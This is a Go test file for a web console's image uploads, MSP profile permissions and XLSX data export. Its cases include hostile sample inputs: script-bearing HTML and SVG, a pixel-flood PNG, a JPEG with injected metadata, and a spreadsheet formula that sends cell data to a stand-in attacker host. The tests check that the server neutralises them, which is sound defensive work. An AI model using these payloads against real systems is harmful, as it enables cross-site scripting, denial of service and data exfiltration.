package web_test

import (
	"bytes"
	"context"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/atrium-console/atrium/atriumtest"
)

func testImage(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x), uint8(y), 128, 255})
		}
	}
	return img
}

func encoded(t *testing.T, format string) []byte {
	t.Helper()
	var b bytes.Buffer
	img := testImage(64, 48)
	switch format {
	case "png":
		png.Encode(&b, img)
	case "jpeg":
		jpeg.Encode(&b, img, nil)
	case "gif":
		gif.Encode(&b, img, nil)
	case "webp":
		data, err := os.ReadFile("../media/testdata/" + webpSample(t))
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	return b.Bytes()
}

func webpSample(t *testing.T) string {
	entries, _ := os.ReadDir("../media/testdata")
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".webp") {
			return e.Name()
		}
	}
	t.Fatal("no WebP sample in media/testdata")
	return ""
}

func (e *env) upload(path, token string, body io.Reader, length int64) *resp {
	e.t.Helper()
	r, _ := http.NewRequestWithContext(context.Background(), "PUT", e.srv.URL+path, body)
	r.ContentLength = length
	r.Header.Set("Authorization", "Bearer "+token)
	r.Header.Set("Content-Type", "application/octet-stream")
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		e.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return &resp{Status: res.StatusCode, Header: res.Header, Body: b}
}

func TestImages(t *testing.T) {
	atriumtest.ForEachDialect(t, func(t *testing.T, dialect string) {
		t.Run("every accepted format becomes the profile picture, served immutable and sandboxed", func(t *testing.T) {
			e := newEnv(t, dialect)
			tok, _ := e.ready("alice")
			for _, f := range []string{"png", "jpeg", "gif", "webp"} {
				data := encoded(t, f)
				r := e.upload("/api/v1/me/avatar", tok, bytes.NewReader(data), int64(len(data)))
				url, _ := r.JSON()["avatar_url"].(string)
				if r.Status != http.StatusOK || !strings.HasPrefix(url, "/images/") {
					t.Fatalf("%s: %d %s", f, r.Status, r.Body)
				}
				img := e.must(http.StatusOK, req{Path: url})
				h := img.Header
				if ct := h.Get("Content-Type"); ct != "image/jpeg" && ct != "image/png" {
					t.Errorf("%s: type %q", f, ct)
				}
				if !strings.Contains(h.Get("Cache-Control"), "immutable") || h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
					t.Errorf("%s: headers %v", f, h)
				}
				if me := e.must(http.StatusOK, req{Path: "/api/v1/me", Token: tok}).JSON(); me["avatar_url"] != url {
					t.Errorf("%s: me.avatar_url %v", f, me["avatar_url"])
				}
			}
			e.must(http.StatusNotFound, req{Path: "/images/" + strings.Repeat("0", 64)})
		})
		t.Run("uploads that are not images or are too large are refused and change nothing", func(t *testing.T) {
			e := newEnv(t, dialect)
			tok, _ := e.ready("alice")
			big := append(encoded(t, "png"), make([]byte, 10<<20)...)
			for _, c := range []struct {
				name   string
				body   []byte
				status int
				code   string
			}{
				{"HTML named .png", []byte("<!doctype html><script>alert(1)</script>"), 415, "unsupported_image"},
				{"SVG", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 415, "unsupported_image"},
				{"empty", nil, 415, "unsupported_image"},
				{"10 MB + 1 byte", big[:10<<20+1], 413, "too_large"},
			} {
				r := e.upload("/api/v1/me/avatar", tok, bytes.NewReader(c.body), int64(len(c.body)))
				if r.Status != c.status || r.Code() != c.code {
					t.Errorf("%s: %d %s", c.name, r.Status, r.Body)
				}
			}
			// Without a declared length the body is still cut at the limit.
			r := e.upload("/api/v1/me/avatar", tok, io.MultiReader(bytes.NewReader(big), strings.NewReader("x")), -1)
			if r.Status != http.StatusRequestEntityTooLarge {
				t.Errorf("chunked 10 MB + 1: %d %s", r.Status, r.Body)
			}
			if me := e.must(http.StatusOK, req{Path: "/api/v1/me", Token: tok}).JSON(); me["avatar_url"] != nil {
				t.Fatalf("avatar changed: %v", me["avatar_url"])
			}
		})
		t.Run("a pixel flood is refused at once", func(t *testing.T) {
			e := newEnv(t, dialect)
			tok, _ := e.ready("alice")
			var b bytes.Buffer
			png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1)))
			flood := b.Bytes()
			// Claim 100000×100000 in the header (the CRC is not checked before the size).
			copy(flood[16:24], []byte{0, 1, 0x86, 0xa0, 0, 1, 0x86, 0xa0})
			start := time.Now()
			r := e.upload("/api/v1/me/avatar", tok, bytes.NewReader(flood), int64(len(flood)))
			if r.Status != http.StatusUnsupportedMediaType || time.Since(start) > 2*time.Second {
				t.Fatalf("%d %s after %v", r.Status, r.Body, time.Since(start))
			}
		})
		t.Run("metadata and trailing bytes do not survive", func(t *testing.T) {
			e := newEnv(t, dialect)
			tok, _ := e.ready("alice")
			j := encoded(t, "jpeg")
			exif := []byte("\xff\xe1\x00\x16Exif\x00\x00GPSLatitude=31.2N\x00")
			hostile := append(append(append([]byte{}, j[:2]...), exif...), j[2:]...)
			hostile = append(hostile, []byte("<script>alert(1)</script>")...)
			r := e.upload("/api/v1/me/avatar", tok, bytes.NewReader(hostile), int64(len(hostile)))
			if r.Status != http.StatusOK {
				t.Fatalf("%d %s", r.Status, r.Body)
			}
			img := e.must(http.StatusOK, req{Path: r.JSON()["avatar_url"].(string)})
			if bytes.Contains(img.Body, []byte("GPS")) || bytes.Contains(img.Body, []byte("script")) || bytes.Contains(img.Body, []byte("Exif")) {
				t.Fatal("metadata or trailing bytes survived")
			}
		})
		t.Run("completeness grows as items are added", func(t *testing.T) {
			e := newEnv(t, dialect)
			tok, _ := e.ready("alice")
			check := func(percent int, missing string) {
				t.Helper()
				c := e.must(http.StatusOK, req{Path: "/api/v1/me", Token: tok}).JSON()["completeness"].(map[string]any)
				if c["percent"] != float64(percent) || fmt.Sprint(c["missing"]) != missing {
					t.Fatalf("completeness %v, want %d%% %s", c, percent, missing)
				}
			}
			check(0, "[phone email avatar two_factor]")
			data := encoded(t, "png")
			e.upload("/api/v1/me/avatar", tok, bytes.NewReader(data), int64(len(data)))
			check(25, "[phone email two_factor]")
			tk := e.ticket(tok, "phone", goodPassword)
			e.must(http.StatusAccepted, req{Method: "POST", Path: "/api/v1/me/phone", Token: tok, Body: map[string]any{"ticket": tk, "phone": "+8613800138000"}})
			e.must(http.StatusOK, req{Method: "POST", Path: "/api/v1/me/phone/confirm", Token: tok, Body: map[string]any{"code": e.code("+8613800138000")}})
			check(50, "[email two_factor]")
			tk = e.ticket(tok, "two_factor", goodPassword)
			e.must(http.StatusOK, req{Method: "PUT", Path: "/api/v1/me/two-factor", Token: tok, Body: map[string]any{"ticket": tk, "enabled": true}})
			check(75, "[email]")
		})
	})
}

func TestMSPInformation(t *testing.T) {
	atriumtest.ForEachDialect(t, func(t *testing.T, dialect string) {
		t.Run("every account of the MSP sees it; only the top-level account edits", func(t *testing.T) {
			e := newEnv(t, dialect)
			owner, mspID := e.ready("alice")
			e.must(http.StatusCreated, req{Method: "POST", Path: fmt.Sprintf("/admin/v1/msps/%d/accounts", mspID), Token: operatorToken, Body: map[string]any{"username": "bob-member", "password": "Initial-Pass-9031"}})
			member, _ := e.login("bob-member", "Initial-Pass-9031")
			e.signAll(member)
			tk := e.ticket(member, "password", "Initial-Pass-9031")
			e.must(http.StatusOK, req{Method: "PUT", Path: "/api/v1/me/password", Token: member, Body: map[string]any{"ticket": tk, "new_password": goodPassword}})

			if m := e.must(http.StatusOK, req{Path: "/api/v1/msp", Token: member}).JSON(); m["name"] != "MSP of alice" || m["editable"] != false {
				t.Fatalf("member sees %v", m)
			}
			r := e.do(req{Method: "PATCH", Path: "/api/v1/msp", Token: member, Body: map[string]any{"name": "Hijacked"}})
			if r.Status != http.StatusForbidden {
				t.Fatalf("member edit: %d", r.Status)
			}
			data := encoded(t, "png")
			if r := e.upload("/api/v1/msp/logo", member, bytes.NewReader(data), int64(len(data))); r.Status != http.StatusForbidden {
				t.Fatalf("member logo: %d", r.Status)
			}
			m := e.must(http.StatusOK, req{Method: "PATCH", Path: "/api/v1/msp", Token: owner, Body: map[string]any{"name": "Acme Cloud", "industry": "Managed services", "address": "1 Harbour Road", "phone": "010 6552 9988"}}).JSON()
			if m["name"] != "Acme Cloud" || m["phone"] != "+861065529988" {
				t.Fatalf("owner edit: %v", m)
			}
			if r := e.upload("/api/v1/msp/logo", owner, bytes.NewReader(data), int64(len(data))); r.Status != http.StatusOK {
				t.Fatalf("owner logo: %d %s", r.Status, r.Body)
			}
			if m := e.must(http.StatusOK, req{Path: "/api/v1/msp", Token: member}).JSON(); m["name"] != "Acme Cloud" || m["logo_url"] == nil {
				t.Fatalf("member sees %v", m)
			}
		})
		t.Run("each field is validated with a clear message", func(t *testing.T) {
			e := newEnv(t, dialect)
			owner, _ := e.ready("alice")
			for _, body := range []map[string]any{
				{"name": ""}, {"name": strings.Repeat("n", 101)}, {"industry": "a\nb"}, {"address": strings.Repeat("a", 201)}, {"phone": "call me"},
			} {
				r := e.do(req{Method: "PATCH", Path: "/api/v1/msp", Token: owner, Body: body})
				if r.Status != http.StatusUnprocessableEntity || r.JSON()["field"] == nil {
					t.Errorf("%v: %d %s", body, r.Status, r.Body)
				}
			}
		})
		t.Run("a tenant has no MSP information", func(t *testing.T) {
			e := newEnv(t, dialect)
			r := e.must(http.StatusCreated, req{Method: "POST", Path: "/admin/v1/tenants", Token: operatorToken, Body: map[string]any{"name": "T", "owner": map[string]any{"username": "tenant-one", "password": "Initial-Pass-9031"}}})
			_ = r
			tok, _ := e.login("tenant-one", "Initial-Pass-9031")
			e.signAll(tok)
			tk := e.ticket(tok, "password", "Initial-Pass-9031")
			e.must(http.StatusOK, req{Method: "PUT", Path: "/api/v1/me/password", Token: tok, Body: map[string]any{"ticket": tk, "new_password": goodPassword}})
			e.must(http.StatusForbidden, req{Path: "/api/v1/msp", Token: tok})
		})
	})
}

func TestExport(t *testing.T) {
	atriumtest.ForEachDialect(t, func(t *testing.T, dialect string) {
		t.Run("the export holds the account's own data as inert text", func(t *testing.T) {
			e := newEnv(t, dialect)
			alice := e.readyWith("alice", "alice@example.com", "+8613800138000")
			e.readyWith("bob-owner", "bob@example.com", "+8613900139000")
			hostile := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
			e.must(http.StatusOK, req{Method: "PATCH", Path: "/api/v1/msp", Token: alice, Body: map[string]any{"industry": hostile, "address": "+1 Main St"}})

			r := e.must(http.StatusOK, req{Path: "/api/v1/me/export", Token: alice})
			if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "attachment") || !strings.Contains(cd, "personal-information-alice-2026-03-01.xlsx") {
				t.Fatalf("Content-Disposition %q", cd)
			}
			f, err := excelize.OpenReader(bytes.NewReader(r.Body))
			if err != nil {
				t.Fatal(err)
			}
			sheets := f.GetSheetList()
			if fmt.Sprint(sheets) != "[Personal Information Signed Agreements]" {
				t.Fatalf("sheets %v", sheets)
			}
			var all []string
			for _, sh := range sheets {
				rows, _ := f.GetRows(sh)
				for i, row := range rows {
					for j, v := range row {
						all = append(all, v)
						cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
						if formula, _ := f.GetCellFormula(sh, cell); formula != "" {
							t.Errorf("%s!%s has a formula %q", sh, cell, formula)
						}
					}
				}
			}
			text := strings.Join(all, "\n")
			for _, want := range []string{"alice", "alice@example.com", "+8613800138000", "MSP of alice", "'" + hostile, "'+1 Main St", "first_login", "Privacy Statement"} {
				if want == "first_login" {
					want = "First sign-in"
				}
				if !strings.Contains(text, want) {
					t.Errorf("export lacks %q", want)
				}
			}
			for _, other := range []string{"bob", "+8613900139000"} {
				if strings.Contains(text, other) {
					t.Errorf("export contains another account's %q", other)
				}
			}
			if !e.hasEvent("export") {
				t.Error("no export audit event")
			}
		})
		t.Run("exports are rate limited", func(t *testing.T) {
			e := newEnv(t, dialect)
			tok, _ := e.ready("alice")
			for range 10 {
				e.must(http.StatusOK, req{Path: "/api/v1/me/export", Token: tok})
			}
			if r := e.do(req{Path: "/api/v1/me/export", Token: tok}); r.Status != http.StatusTooManyRequests {
				t.Fatalf("11th export: %d", r.Status)
			}
		})
	})
}
